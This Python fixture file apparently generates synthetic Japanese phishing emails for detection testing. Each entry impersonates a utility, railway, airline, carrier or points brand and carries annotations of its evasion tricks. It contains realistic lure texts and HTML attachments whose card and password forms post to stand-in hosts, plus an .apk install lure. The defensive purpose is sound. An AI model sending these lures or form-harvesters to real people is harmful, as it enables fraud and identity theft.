"""Phishing mails, part A: utilities, railways/transport, mobile carriers, points, banks, crypto.
Every attacker domain here is invented; IPs are documentation ranges or invented."""
from registry import (P, A, R_SATO, R_SUZUKI, R_TAKA, R_TANAKA, R_ITO, R_WATA, R_NAKA,
                      R_KOBA, R_ISP, R_DOCOMO, tok, page, btn, paras, qr_png)

# ------------------------------------------------------------------ utilities
P("tepco-unpaid-forged-dmarcfail", "東京電力エナジーパートナー",
  ("東京電力エナジーパートナー", "info@tepco.co.jp"),
  "【重要なお知らせ】未払いの電気料金について【お支払い方法が承認されません】****",
  html=page("未払い電気料金のお知らせ", paras(
      "お客様各位",
      "平素より東京電力エナジーパートナーをご利用いただき、誠にありがとうございます。",
      "お客様の今月分の電気料金について、ご登録のお支払い方法が承認されませんでした。\n"
      "支払期日を過ぎますと、誠に恐れ入りますが電気の供給を停止させていただきます。",
      "未払い金額:12,860円(税込)\nお支払い期限:本メール到着後24時間以内") +
      btn("https://tepco-ryokin-shiharai.top/kurashi/pay?id=" + tok("tepco1"), "お支払い情報を更新する"),
      color="#e60012", foot="東京電力エナジーパートナー株式会社 〒100-8560 東京都千代田区内幸町1-1-3"),
  to=R_SATO, auth=A("gmail", spf="fail", dkim="none", dmarc="fail", mf="noreply@tepco-ryokin-shiharai.top",
                    ip="203.0.113.41", p="QUARANTINE"), crlf=True,
  tricks="forged official From (tepco.co.jp) with SPF fail and DMARC fail (Gmail AR); '****' filter-dodging tail in subject; 24時間/供給停止 threat; .top payment page")

P("tepco-kurashi-lookalike-iso2022jp", "東京電力エナジーパートナー",
  ("くらしTEPCO web", "support@kurashi-tepco-jp.com"),
  "【くらしTEPCO web】ログイン認証のお願い(自動配信メール)",
  body="""くらしTEPCO web 会員さま

いつも「くらしTEPCO web」をご利用いただきありがとうございます。
システムのセキュリティ強化に伴い、全ての会員さまにログイン認証をお願いしております。
下記URLより、以下を入力し、認証を完了してください。
①お客さま番号 ②パスワード ③ご登録のクレジットカード情報

https://kurashi-tepco-jp.com/mypage/login?ref=mail

※認証期限:2026年11月30日 23:59
期限までに認証が確認できない場合、ポイントの失効および会員資格の停止となります。

――――――――――――――――――――
東京電力エナジーパートナー株式会社
くらしTEPCO web 事務局
――――――――――――――――――――""",
  cs="iso-2022-jp", subj_enc="b-iso", frm_enc="iso-2022-jp", to=R_SUZUKI,
  auth=A("m365", spf="pass", dkim="pass", dmarc="none", ip="198.51.100.17", compauth="softpass reason=202"),
  tricks="look-alike hyphen domain kurashi-tepco-jp.com passing its own SPF/DKIM (no DMARC); asks card data; Microsoft 365 AR")

P("tepco-sms-style-freemail-isgd", "東京電力エナジーパートナー",
  ("", "denki.center0913@gmail.com"), "",
  body="【東京電力】電気料金が未納のため本日17時に送電を停止します。至急お手続きください https://is.gd/" + tok("tepco3", 6),
  cte="8bit", to=R_DOCOMO,
  auth=A("docomo", spf="pass", dkim="pass", dmarc="pass", d="gmail.com", mf="denki.center0913@gmail.com", ip="209.85.220.41"),
  tricks="SMS-style one-liner, empty subject, free mail (gmail.com) claiming TEPCO, is.gd shortener; docomo.ne.jp AR")

P("tokyogas-mytokyogas-visible-official-url", "東京ガス",
  ("myTOKYOGAS", "order-plaeodgh@service.mytgas-notice.cn"),
  "【myTOKYOGAS】ご請求料金確定のお知らせ お客様のお支払い方法が承認されません",
  html=page("ご請求料金確定のお知らせ", paras(
      "日頃より東京ガスをご利用いただき、誠にありがとうございます。\n今月のご請求金額が確定いたしました。",
      "お客様の口座残高が現在のご請求金額に対して不足していることを確認いたしました。また、お支払い方法が承認されておりません。"
      "サービスのご利用を継続していただくために、支払い情報の更新をお願い申し上げます。",
      "ご請求金額:8,417円") +
      '<p>ログインはこちら:<a href="https://renacious.mytgas-notice.cn/mtgalogin/">https://members.tokyo-gas.co.jp/</a></p>' +
      paras("よくあるご質問",
            "Q. 使用量が変わらないのに、ガス・電気代が高いと感じる\nA. 資源価格の高騰や為替の影響により、料金が高くなる場合がございます。"),
      color="#0071bc", foot="東京ガス株式会社 〒105-8527 東京都港区海岸1-5-20"),
  to=R_TAKA, auth=A("gmail", spf="pass", dkim="pass", dmarc="none", ip="203.0.113.88"),
  tricks="HTML link text shows the official members.tokyo-gas.co.jp URL, href goes to an invented .cn host; copied FAQ text to look genuine; sender on .cn passing its own SPF/DKIM")

P("tokyogas-vpreca-gift-reply", "東京ガス",
  ("東京ガス お客さまセンター", "tokyogas.center@outlook.jp"),
  "ガス料金に関する重要なお知らせ",
  body="""お客様

東京ガスお客さまセンターでございます。
お客様のガス料金(3か月分 合計24,300円)が未納となっております。
支払期日をすぎるとただちに供給を停止いたします。

本日中のお支払いが必要なため、
①コンビニエンスストアでVプリカ(25,000円分)をご購入いただき、
②カード裏面の番号をこのメールにご返信ください。確認後、供給停止を取り消します。

東京ガス株式会社 お客さまセンター""",
  cs="shift_jis", cte="8bit", subj_enc="b-sjis", frm_enc="shift_jis", to=R_ITO,
  auth=A("gmail", spf="pass", dkim="pass", dmarc="pass", d="outlook.jp", mf="tokyogas.center@outlook.jp", ip="40.92.66.20"),
  tricks="no link: prepaid-card (Vプリカ) payment by reply, free mail (outlook.jp) passing auth; supply-stop threat; Shift_JIS 8bit body")

P("kepco-hapie-lookalike-eucjp", "関西電力",
  ("関西電力 はぴeみる電", "info@hapiemiruden-kepco.net"),
  "【はぴeみる電】ご登録のお支払い方法の有効期限が切れています",
  body="""はぴeみる電 会員各位

いつも関西電力をご利用いただき、ありがとうございます。
ご登録いただいているクレジットカードの有効期限が切れているため、
今月分の電気料金のお支払いが完了しておりません。

下記より、カード情報を再登録してください。
https://hapiemiruden-kepco.net/member/card/update

※48時間以内にご登録がない場合、はぴeポイントはすべて失効いたします。

関西電力株式会社""",
  cs="euc-jp", cte="8bit", subj_enc="b-utf8", to=R_NAKA,
  auth=A("isp", spf="pass", dkim="pass", dmarc="none", ip="198.51.100.61"), to_enc="utf-8",
  tricks="look-alike domain hapiemiruden-kepco.net (own SPF/DKIM pass); card re-registration; EUC-JP 8bit; invented Japanese ISP AR")

P("chuden-katene-qr-isp-fail", "中部電力",
  ("カテエネ", "info@katene.chuden.jp"),
  "【カテエネ】ポイント失効前のお手続きのお願い",
  html=page("カテエネ ポイント失効のお知らせ", paras(
      "カテエネ会員のお客さま",
      "お客さまの保有ポイント(3,250ポイント)が2026年11月末で失効します。",
      "スマートフォンで下の二次元コードを読み取り、会員情報の確認を完了してください。") +
      '<p style="text-align:center"><img src="cid:qr-katene" width="180" height="180" alt="二次元コード"></p>' +
      paras("※パソコンからはお手続きいただけません。"), color="#00a040",
      foot="中部電力ミライズ株式会社"),
  kind="related", attach=[("qr.png", "image/png", qr_png("chuden-qr"), "qr-katene")],
  cs="iso-2022-jp", cte="7bit", subj_enc="b-iso", to=R_ISP,
  auth=A("isp", spf="softfail", dkim="none", dmarc="fail", mf="bounce@mail-kt-svc.icu", ip="203.0.113.150", p="QUARANTINE"),
  tricks="QR code image only (no URL); forged From on katene.chuden.jp (domain from our memory) failing DMARC in the invented ISP AR; 'PC cannot be used' pushes to phone")

P("tokyo-waterworks-fake-lgjp-sjis", "東京都水道局",
  ("東京都水道局 料金センター", "ryokin@metro.tokyo-lg.jp.net"),
  "【東京都水道局】水道料金未払いによる給水停止予告のお知らせ",
  body="""お客様番号:13-****-****

東京都水道局よりお知らせいたします。
お客様の水道料金(2026年9月・10月分)のお支払いが確認できておりません。
このままお支払いがない場合、2026年11月28日以降、給水を停止いたします。

下記の水道局オンライン窓口よりお支払いください。
https://www.waterworks.metro.tokyo.lg.jp.kyusui-teishi.net/pay/

東京都水道局 お客さまセンター
TEL 0570-091-100""",
  cs="shift_jis", cte="base64", subj_enc="b-sjis", frm_enc="shift_jis", to=R_WATA,
  auth=A("gmail", spf="pass", dkim="pass", dmarc="none", ip="198.51.100.90"),
  tricks="fake lg.jp hierarchy: sender metro.tokyo-lg.jp.net, link www.waterworks.metro.tokyo.lg.jp.kyusui-teishi.net; 給水停止 threat; Shift_JIS base64")

P("osakagas-refund-callback-compromised", "大阪ガス",
  ("大阪ガス 料金返金センター", "soumu@hakuun-seiki.co.jp"),
  "【大阪ガス】ガス料金過払い分のご返金について",
  body="""お客様各位

平素は大阪ガスをご利用いただき誠にありがとうございます。
料金システムの不具合により、2025年4月から2026年3月までのガス料金を
過大に請求していたことが判明いたしました。

返金額:18,640円

ご返金の手続きは電話でのみ承っております。お手元にキャッシュカードをご用意のうえ、
返金専用ダイヤル 050-3185-7720(受付 9:00~20:00)までお電話ください。
手続きの期限は2026年11月30日です。

大阪ガス株式会社 料金返金センター""",
  cte="quoted-printable", to=R_KOBA,
  auth=A("m365", ip="198.51.100.121"),
  tricks="refund call-back scam without links (050 number, asks to have the cash card ready); compromised unrelated Japanese company passing SPF/DKIM/DMARC (M365 AR)")

P("tohoku-epco-html-attachment-form", "東北電力",
  ("東北電力 よりそうeネット", "no-reply@yorisou-enet.support"),
  "【よりそうeネット】電気料金の返金手続きフォームを添付いたします",
  body="""よりそうeネット会員さま

電気料金の誤請求に伴う返金手続きのご案内です。
添付の「返金申請フォーム.html」を開き、必要事項(カード番号・有効期限・セキュリティコード)を
入力のうえ送信してください。

東北電力株式会社""",
  attach=[("返金申請フォーム.html", "text/html",
           page("返金申請フォーム", '<form action="https://198.51.100.44/tohoku/submit.php" method="post">'
                "<p>お客さま番号 <input name=\"no\"></p><p>カード番号 <input name=\"cc\"></p>"
                "<p>有効期限 <input name=\"exp\"></p><p>セキュリティコード <input name=\"cvv\"></p>"
                "<p><input type=\"submit\" value=\"送信\"></p></form>", color="#00913a"))],
  to=R_TANAKA, auth=A("gmail", spf="pass", dkim="pass", dmarc="none", ip="203.0.113.77"),
  tricks="HTML attachment with a card form posting to an IP host; look-alike sender on invented .support domain; refund pretext")

P("water-sms-forward-family", "水道局(市区町村)",
  ("佐藤 正男", "masao.sato1952@yahoo.co.jp"), "Fw: これ本当?",
  body="""花子へ
水道のことでこんなメッセージが来たけど払わないといけないの?

-----転送メッセージ-----
【水道局】水道料金の未払いがあります。本日中にお支払いがない場合、給水を停止します。お支払いはこちら https://suido-pay.cyou/jp
""",
  cte="8bit", to=R_SATO,
  auth=A("gmail", spf="pass", dkim="pass", dmarc="pass", d="yahoo.co.jp", mf="masao.sato1952@yahoo.co.jp", ip="182.22.12.50"),
  tricks="SMS lure forwarded by a family member (Yahoo! mail, full pass); generic 水道局; .cyou link; label phish (the content is the lure)")

# ------------------------------------------------------------------ railways / transport
P("ekinet-auto-withdraw-self-address", "えきねっと(JR東日本)",
  ("SAISON", "ichiro.suzuki@example.jp"),
  "【重要】えきねっとアカウントの自動退会処理について。メール番号:Ek6177244483-72711098",
  body="""えきねっと

日頃より「えきねっと」をご利用いただきありがとうございます。
2026-11-17にセキュリティシステムを全面的にリニューアルしましたため、7日以上にログインしていない方は、
今後の利用に支障が出ないよう、このメールを受信後、早急にログインをして個人情報を更新してくださ。

ログイン
https://hoshino-kenchiku-example.com/wp-includes/eki/

ご記入がない場合は、退会手続きをとらせていただきます。

発行:株式会社JR東日本ネットステーション""",
  to=R_SUZUKI, auth=A("gmail", spf="softfail", dkim="none", dmarc="fail", mf="wp@hoshino-kenchiku-example.com",
                      ip="203.0.113.201", p="NONE"),
  tricks="From address = the recipient's own address, display name 'SAISON' (unrelated brand); DMARC fail p=NONE; link into a compromised WordPress path; typo くださ")

P("ekinet-forged-m365-brand-subdomain", "えきねっと(JR東日本)",
  ("えきねっと", "info@eki-net.com"),
  "【えきねっと】本人情報緊急確認",
  html=page("えきねっと 本人情報緊急確認", paras(
      "えきねっとをご利用のお客さま",
      "お客さまのアカウントで不審なログインが確認されたため、一部機能を制限しております。"
      "以下より本人確認を行い、制限を解除してください。") +
      btn("https://www.eki-net.com.account-verify.cfd/personal/login", "本人確認を行う", "#008803") +
      paras("※本メールは送信専用です。"), color="#008803", foot="JR東日本ネットステーション"),
  to=R_TAKA, auth=A("m365", spf="fail", dkim="none", dmarc="fail", mf="post@mx-ekn.cfd", ip="198.51.100.33"),
  tricks="forged official From eki-net.com (M365 AR spf=fail dmarc=fail compauth=fail); brand-as-subdomain www.eki-net.com.account-verify.cfd")

P("ekinet-punycode-homoglyph", "えきねっと(JR東日本)",
  ("えきねっと", "noreply@xn--eki-nt-7of.com"),
  "【えきねっと】「新幹線eチケットサービス」ご利用環境確認用ワンタイムURLのお知らせ",
  body="""えきねっとをご利用いただきありがとうございます。
ご利用環境確認用のワンタイムURLをお送りします。30分以内にアクセスしてください。

https://www.xn--eki-nt-7of.com/onetime/""" + tok("ekipuny", 12) + """

心当たりがない場合は、第三者による不正アクセスの可能性があります。
至急上記URLからパスワードを変更してください。

JR東日本ネットステーション""",
  cte="8bit", to=R_ITO, auth=A("gmail", ip="203.0.113.19", dmarc="none"),
  tricks="punycode homoglyph (Cyrillic е in eki-nеt) in sender and link, look-alike passes its own SPF/DKIM; one-time URL pretext")

P("etc-meisai-keizoku-search-but-link", "ETC利用照会サービス",
  ("ETC利用照会サービス事務局", "member-aegjxvwz@mhk-gua.cn"),
  "【至急】ご利用を継続いただくためのお願い",
  body="""ETC利用照会サービスをご利用のお客様へ

最終ログインから120日が経過しています。
150日間ログインがない場合、自動的に登録が解約されます。
解約予定日:2026-12-02

当社はメールでリンクを送付しません。ブラウザで「ETC利用照会サービス 公式サイト」と検索してください。

ETC利用照会サービス 公式サイトはこちら
https://ollinaster.etc-riyo.cn/Rfuncc1013000extfunc/

ETC利用照会サービス事務局
ナビダイヤル 0570-010-139""",
  to=R_WATA, auth=A("gmail", spf="pass", dkim="none", dmarc="none", ip="203.0.113.140"),
  tricks="says 'we never send links, search the official site' and then gives a link (.cn); registration-cancellation deadline")

P("etc-mileage-typo-qr", "ETCマイレージサービス",
  ("ETC利用照会サーピス事務局", "etc-e.mail7fN@mx7fn.mail-vdf.net"),
  "ETCの決済方法を再確認してください",
  html=page("ETCマイレージサービス", paras(
      "お客様のETCカードの支払情報が変更されたことを発見しました。",
      "以下の二次元コードを読み取り、決済方法を再確認してください。確認がない場合、ETCサービスは無効になります。") +
      '<p style="text-align:center"><img src="cid:qr-etc" alt="QR"></p>', color="#005bac",
      foot="ETC利用照会サーピス事務局"),
  kind="related", attach=[("etc.png", "image/png", qr_png("etc-qr"), "qr-etc")],
  cs="utf-8", cte="quoted-printable", to=R_KOBA,
  auth=A("m365", spf="pass", dkim="none", dmarc="none", ip="198.51.100.70", compauth="none reason=905"),
  tricks="misspelt office name (サーピス, ピ for ビ) in display name and footer; QR code only; machine-like wording (支払情報が変更されたことを発見しました)")

P("nexco-unpaid-toll-sms-icloud", "NEXCO(高速道路)",
  ("", "k.hayashi.8821@icloud.com"), "",
  body="【NEXCO】高速道路料金の未払いがあります。本日中にお支払いがない場合、法的措置に移行します。 https://t.ly/" + tok("nexco", 5),
  cte="8bit", to=R_DOCOMO,
  auth=A("docomo", d="icloud.com", mf="k.hayashi.8821@icloud.com", ip="17.58.63.181"),
  tricks="SMS-style, empty subject, iCloud free mailbox, t.ly shortener, legal-action threat (2024-25 高速料金未払い campaign)")

P("ana-mile-expire-freemail", "ANA",
  ("ANAマイレージクラブ", "ana.mileage.desk@outlook.jp"),
  "マイルご利用期限終了間近",
  html=page("ANAマイル失効速報", paras(
      "緊急!マイル失効の危機",
      "2026年11月30日に <b>7,500マイル</b> が失効予定です。",
      "今すぐログインして、マイルを電子マネーに交換してください。") +
      btn("https://ana-mileage-club.jp-members.xyz/amc/login", "マイルを交換する", "#13448f"),
      color="#13448f", foot="ANAマイレージクラブ事務局"),
  to=R_TANAKA, auth=A("gmail", d="outlook.jp", mf="ana.mileage.desk@outlook.jp", ip="40.92.67.31"),
  tricks="free mail (outlook.jp) with ANA display name; look-alike jp-members.xyz; loss-aversion (マイル失効)")

P("ana-forged-anamail-userinfo-iso", "ANA",
  ("ANA", "info@anamail.ana.co.jp"),
  "【ANA】マイル加算手続きのお願い(期限あり)",
  body="""ANAマイレージクラブ会員 各位

ご搭乗いただいた便のマイルが未加算となっております。
下記URLより、お得意様番号とWebパスワードを入力し、マイル事後登録を行ってください。

https://www.ana.co.jp@203.0.113.58/amc/jigo/

期限:2026年11月25日

全日本空輸株式会社""",
  cs="iso-2022-jp", subj_enc="b-iso", frm_enc="iso-2022-jp", to=R_NAKA, crlf=True,
  auth=A("gmail", spf="fail", dkim="none", dmarc="fail", mf="mailer@ana-mls.top", ip="203.0.113.58"),
  tricks="forged official sender domain anamail.ana.co.jp (DMARC fail p=REJECT, Gmail); userinfo trick https://www.ana.co.jp@203.0.113.58/; asks password")

P("jal-pay-compromised-google-redirect", "JAL",
  ("JALマイレージバンク", "info@kotobuki-denki-ex.co.jp"),
  "【重要】JALマイル有効期限に関するご案内",
  html=page("JALマイレージバンク マイル有効期限のお知らせ", paras(
      "2026-11-30までに有効期限を迎えるマイル:8,599",
      "失効を避けるため、今すぐJAL Payへチャージしてください。") +
      btn("https://www.google.com/url?q=https://jmb-jalpay.charge-now.top/login&sa=D&usg=AOvVaw" + tok("jalg", 10),
          "マイルを今すぐ利用する", "#cc0000"), color="#cc0000", foot="日本航空株式会社"),
  to=R_ITO, auth=A("gmail", ip="203.0.113.95"),
  tricks="compromised unrelated Japanese company (full SPF/DKIM/DMARC pass); Google open redirect to a look-alike .top; JAL Pay mile-drain campaign")

P("jal-lookalike-visible-jmb-url", "JAL",
  ("JAL国内線", "booking@booking-jal.com"),
  "【JAL国内線】ご予約完了のお知らせ/座席指定の再確認",
  html=page("ご予約完了のお知らせ", paras(
      "JALをご利用いただきありがとうございます。",
      "ご予約内容に不備があり、座席が確保されていません。以下のJALマイレージバンク会員ページでご確認ください。") +
      '<p><a href="https://jal-co-jp.mileage-check.top/jmb/">https://www.jal.co.jp/jmb/</a></p>',
      color="#cc0000", foot="日本航空"),
  to=R_WATA, auth=A("m365", ip="198.51.100.41", dmarc="none", compauth="softpass reason=201"),
  tricks="look-alike booking-jal.com (real: booking.jal.com) passing own auth; link text shows www.jal.co.jp/jmb/ but href goes to jal-co-jp.mileage-check.top; no passenger name")

P("peach-refund-machine-translated", "Peach Aviation",
  ("Peach Aviation", "refund@peach-aviation-refund.com"),
  "[Peach]あなたのフライトはキャンセルされました、払い戻しを受ける",
  body="""尊敬するお客様、

あなたの関心事をありがとう。天候の理由であなたのフライトはキャンセルされました。
払い戻しを受けるために、あなたのカード情報を確認する必要があります。
以下のリンクをクリックし、72時間以内に手続きを完了してください、さもなければ払い戻しは無効になります。

https://peach-aviation-refund.com/ja/refund?case=""" + tok("peach", 8) + """

よろしく、
Peachカスタマーチーム""",
  cte="base64", to=R_KOBA, auth=A("gmail", ip="203.0.113.66", dmarc="none"),
  tricks="machine-translated Japanese (尊敬するお客様, あなたの関心事をありがとう, さもなければ); refund pretext; look-alike domain")

P("smartex-chinese-chars-163", "スマートEX(JR東海)",
  ("スマートEX", "smartex_service@126.com"),
  "スマートEX账户异常通知",
  body="""尊敬的スマートEX会員様:

お客様の账户に異常ログインがありました。安全のため账户を一時冻结しました。
下記のリンクから身份验证を行ってください。

http://smart-ex.jp-verify.vip/login

JR東海 スマートEX""",
  cte="8bit", to=R_SUZUKI, auth=A("gmail", d="126.com", mf="smartex_service@126.com", ip="220.181.12.15", dmarc="none"),
  tricks="simplified-Chinese characters mixed into Japanese (账户, 冻结, 身份验证); Chinese free mail 126.com; http .vip link")

P("mobilesuica-zero-width-brand", "モバイルSuica",
  ("モ\u200bバイル\u200bSuica", "notice@msuica-info.icu"),
  "【モ\u200bバイル\u200bSuica】ご登録クレジットカードの確認のお願い",
  body="""モ\u200bバイル\u200bSuica会員の皆さま

ご登録クレジットカードの有効性が確認できませんでした。
グリーン券・Suicaグリーン券が購入できない状態です。
下記よりカード情報の再確認をお願いします。

https://mobile-suica-jr.icu/card/confirm

東日本旅客鉄道株式会社""",
  cte="quoted-printable", to=R_TAKA, auth=A("gmail", ip="198.51.100.203", dmarc="none"),
  tricks="zero-width spaces inside the brand name (display name, subject, body); look-alike .icu")

# ------------------------------------------------------------------ mobile carriers
P("docomo-daccount-forged-docomo-ar", "NTTドコモ",
  ("docomo", "spmodemsgr@wdy.docomo.ne.jp"),
  "dアカウントがロックされました",
  body="""dアカウントのご利用に関するお知らせ

お客様のdアカウントに対して、複数回のログイン失敗が確認されたため、ロックいたしました。
ロックを解除するには、以下より本人確認(dアカウントID、パスワード、ネットワーク暗証番号)を行ってください。

https://dacount-docomo.com/unlock?uid=""" + tok("dcm1", 10) + """

株式会社NTTドコモ""",
  cte="base64", to=R_DOCOMO,
  auth=A("docomo", spf="fail", dkim="none", dmarc="fail", mf="ml@dacount-docomo.com", ip="203.0.113.170"),
  tricks="forged docomo's real d-account notice sender (spmodemsgr@wdy.docomo.ne.jp) failing DMARC in docomo.ne.jp AR; typo look-alike dacount-docomo.com; asks ネットワーク暗証番号")

P("docomo-malicious-app-install", "NTTドコモ",
  ("ドコモ セキュリティセンター", "security@docomo-anshin.top"),
  "【緊急】お客様の端末が第三者によって不正に利用されています",
  body="""ドコモをご利用のお客様

お客様がご利用の端末が第三者によって不正に利用された可能性があります。
被害拡大防止のため、下記から「あんしんセキュリティ」最新版をインストールし、
ネットワーク暗証番号を入力してください。

https://docomo-anshin.top/app/anshin-security.apk

NTTドコモ""",
  cte="8bit", to=R_DOCOMO,
  auth=A("docomo", spf="pass", dkim="none", dmarc="none", ip="198.51.100.9"),
  tricks="malicious APK install lure (ドコモ's own warning describes it); .apk link on .top; asks network PIN")

P("au-id-payment-lookalike-sjis", "au(KDDI)",
  ("au ID サポート", "support@au-id-support.com"),
  "【au】ご利用料金のお支払いが確認できません",
  body="""いつもauをご利用いただきありがとうございます。

お客さまの2026年10月ご利用分の料金について、ご指定の口座からの引き落としができませんでした。
11月27日までにお支払いがない場合、回線のご利用を停止させていただきます。

▼お支払い手続き
https://au-id-support.com/billing/pay

KDDI株式会社・沖縄セルラー電話株式会社""",
  cs="shift_jis", cte="base64", subj_enc="b-sjis", to=R_TANAKA,
  auth=A("m365", ip="198.51.100.24", dmarc="none", compauth="softpass reason=201"),
  tricks="look-alike au-id-support.com passing own auth; line-stop threat; Shift_JIS base64 body and subject")

P("aupay-ponta-expiry-yahoo-bitly", "au PAY / Pontaポイント",
  ("au PAY", "aupay_ponta2026@yahoo.co.jp"),
  "【au PAY】Pontaポイント 4,800ポイントが本日失効します",
  body="""au PAYをご利用いただきありがとうございます。
お客さまの保有Pontaポイント 4,800ポイントが本日23:59で失効します。
失効前に以下からポイントを受け取ってください。
https://bit.ly/""" + tok("aupay", 7) + """
au PAY 事務局""",
  cte="8bit", to=R_NAKA,
  auth=A("gmail", d="yahoo.co.jp", mf="aupay_ponta2026@yahoo.co.jp", ip="182.22.12.77"),
  tricks="free mail (yahoo.co.jp) with brand display name; bit.ly shortener; point-expiry pressure")

P("softbank-kyc-mynumber-firebase", "ソフトバンク",
  ("SoftBank", "front@hotel-minatokan-ex.jp"),
  "【SoftBank】ご契約者さまの本人確認書類の再提出のお願い",
  html=page("本人確認書類の再提出のお願い", paras(
      "ソフトバンクをご利用いただきありがとうございます。",
      "携帯電話不正利用防止法に基づき、ご契約者さまの本人確認を実施しております。",
      "マイナンバーカード(表・裏)の写真と、顔写真を撮影のうえアップロードしてください。"
      "期限までにご提出がない場合、ご契約を解除させていただきます。") +
      btn("https://softbank-kyc-update.web.app/upload", "書類を提出する", "#333333"),
      color="#333333", foot="ソフトバンク株式会社"),
  to=R_KOBA, auth=A("isp", ip="203.0.113.210"),
  tricks="compromised unrelated sender (hotel) with full pass; Firebase hosting web.app; asks My Number card photos and selfie (identity theft, not just passwords)")

P("rakutenmobile-brand-subdomain", "楽天モバイル",
  ("楽天モバイル", "info@rakuten-mobile-billing.com"),
  "【楽天モバイル】ご利用料金のお支払い確認ができません(自動配信メール)",
  body="""楽天モバイルをご利用いただきありがとうございます。

ご登録のお支払い方法でのお支払いが確認できませんでした。
回線停止を避けるため、24時間以内にお支払い方法を更新してください。

https://mobile.rakuten.co.jp.signin-check.com/my-rakuten-mobile/

楽天モバイル株式会社""",
  cte="base64", to=R_SATO, auth=A("gmail", ip="198.51.100.152", dmarc="none"),
  tricks="brand-as-subdomain mobile.rakuten.co.jp.signin-check.com; look-alike sender passing own auth; 24h deadline")

P("ahamo-esim-reply-with-code", "ahamo",
  ("ahamoサポート", "ahamo.support.center@outlook.com"),
  "【ahamo】eSIM再発行手続きの確認",
  body="""ahamoをご利用のお客様

お客様の回線でeSIM再発行のお申し込みを受け付けました。
お心当たりがない場合は、手続きを停止するため、
本日お客様の携帯電話に届いたSMSの6桁の認証コードをこのメールにご返信ください。

ahamoサポートセンター""",
  cte="8bit", to=R_WATA,
  auth=A("gmail", d="outlook.com", mf="ahamo.support.center@outlook.com", ip="40.92.48.100"),
  tricks="reply-only (no link): asks to reply with the SMS one-time code (SIM-swap); free mail outlook.com")

P("iijmio-contract-renewal-invoice-html", "IIJmio",
  ("IIJmio", "billing@iijmio-support.net"),
  "【IIJmio】ご契約更新のお知らせと請求書の送付",
  body="""IIJmioをご利用いただきありがとうございます。
ご契約更新に伴う請求書を添付いたします。
添付ファイルを開き、内容をご確認のうえお支払い手続きを行ってください。

株式会社インターネットイニシアティブ""",
  attach=[("請求書_202611.html", "text/html",
           page("IIJmio ご請求書", "<p>ご請求金額 2,178円</p><form action=\"https://iijmio-pay.netlify.app/api\" method=\"post\">"
                "<p>mioID <input name=\"id\"></p><p>パスワード <input type=\"password\" name=\"pw\"></p>"
                "<p><input type=\"submit\" value=\"ログインして支払う\"></p></form>"))],
  to=R_ITO, auth=A("m365", ip="198.51.100.19", dmarc="none", compauth="softpass reason=201"),
  tricks="'invoice' HTML attachment with a login form posting to netlify.app; look-alike sender")

P("ymobile-visible-official-url-forged", "Y!mobile",
  ("Y!mobile", "ymobile-info@mail.ymobile.jp"),
  "【Y!mobile】ご請求金額確定のお知らせ(未払いあり)",
  html=page("ご請求金額確定のお知らせ", paras(
      "いつもY!mobileをご利用いただきありがとうございます。",
      "前月分のお支払いが確認できておりません。My Y!mobileからお支払い方法をご確認ください。") +
      '<p>My Y!mobile:<a href="https://my-ymobile.pay-confirm.shop/login">https://my.ymobile.jp/</a></p>',
      color="#ff0033", foot="ソフトバンク株式会社"),
  to=R_TAKA, auth=A("m365", spf="fail", dkim="none", dmarc="fail", mf="bulk@pay-confirm.shop", ip="203.0.113.131"),
  tricks="forged From on a Y!mobile-looking domain (mail.ymobile.jp, unverified) with M365 spf/dmarc fail; link text shows my.ymobile.jp, href .shop")

P("povo-gift-code-prize", "povo",
  ("povo キャンペーン事務局", "campaign@povo-present.sbs"),
  "【当選】povoデータ追加(300GB)ギフトコードが当たりました",
  body="""おめでとうございます!
povo 2.0 ご利用者さま限定キャンペーンにて、データ追加(300GB/365日間)ギフトコードに当選しました。
受け取りには送料330円のお支払いが必要です。

▼受け取り手続き(本日中)
https://povo-present.sbs/gift?c=""" + tok("povo", 8) + """

povoキャンペーン事務局""",
  cte="base64", to=R_SUZUKI, auth=A("gmail", ip="198.51.100.188", dmarc="none"),
  tricks="prize lure with small 'shipping fee' card payment; look-alike .sbs")

# ------------------------------------------------------------------ points / payments
P("ponta-expire-googleapis", "Pontaポイント",
  ("Ponta", "ponta-info@pontacard-jp.com"),
  "【Ponta】保有ポイント失効のお知らせ",
  html=page("Pontaポイント失効のお知らせ", paras(
      "Ponta会員ID:****-****-2087 様",
      "保有ポイント 12,300ポイントのうち、8,000ポイントが2026年11月30日に失効します。",
      "失効前にPonta会員情報の確認を行ってください。") +
      btn("https://storage.googleapis.com/ponta-jp-" + tok("ponta", 6).lower() + "/index.html", "会員情報を確認する", "#f58220"),
      color="#f58220", foot="株式会社ロイヤリティ マーケティング"),
  to=R_NAKA, auth=A("gmail", ip="203.0.113.99", dmarc="none"),
  tricks="cloud storage landing (storage.googleapis.com); look-alike sender; point expiry")

P("vpoint-sms-self-forward", "Vポイント",
  ("高橋 美咲", "misaki.takahashi@example.jp"), "Fwd: SMS",
  body="""あとで確認

【Vポイント】お客様のVポイント(6,250pt)の有効期限が近づいています。ポイントの交換はこちら https://vpoint-exchange.click/m/""" + tok("vpt", 5),
  cte="8bit", to=R_TAKA,
  auth=A("gmail", d="example.jp", mf="misaki.takahashi@example.jp", ip="192.0.2.25"),
  tricks="SMS text forwarded by the user to themself (own domain, full pass); .click; label phish")

P("dpoint-forged-noauth-euc", "dポイント",
  ("dポイントクラブ", "info@dpoint.docomo.ne.jp"),
  "【dポイントクラブ】期間・用途限定ポイントの失効について",
  body="""dポイントクラブ会員さま

お客さまの期間・用途限定ポイント 5,000ptが2026年11月30日に失効いたします。
以下のページでdアカウントにログインし、ポイントをご利用ください。

http://dpoint-club.docomo-ne.jp.cr-login.top/

株式会社NTTドコモ""",
  cs="euc-jp", cte="8bit", subj_enc="b-euc", to=R_KOBA, auth=None,
  tricks="forged docomo sender domain with no Authentication-Results at all; fake docomo-ne.jp hierarchy on .top; EUC-JP body and EUC-JP B subject")

P("paypay-campaign-lookalike-html", "PayPay",
  ("PayPay", "campaign@paypay-bonus.jp-pay.top"),
  "【PayPay】ポイント付与のお知らせ:10,000ポイント受け取り期限",
  html=page("PayPayポイント付与のお知らせ", paras(
      "PayPayをご利用いただきありがとうございます。",
      "「超PayPay祭」の対象者として10,000ポイントが付与されました。受け取り期限は本日中です。",
      "受け取りにはPayPayに登録済みの携帯電話番号とパスワードが必要です。") +
      btn("https://paypay-bonus.jp-pay.top/receive", "ポイントを受け取る", "#ff0033"), color="#ff0033",
      foot="PayPay株式会社"),
  cte="quoted-printable", to=R_TANAKA, auth=A("gmail", ip="198.51.100.64", dmarc="none"),
  tricks="brand name in sender subdomain of an invented .top domain; free-points lure asking phone number + password")

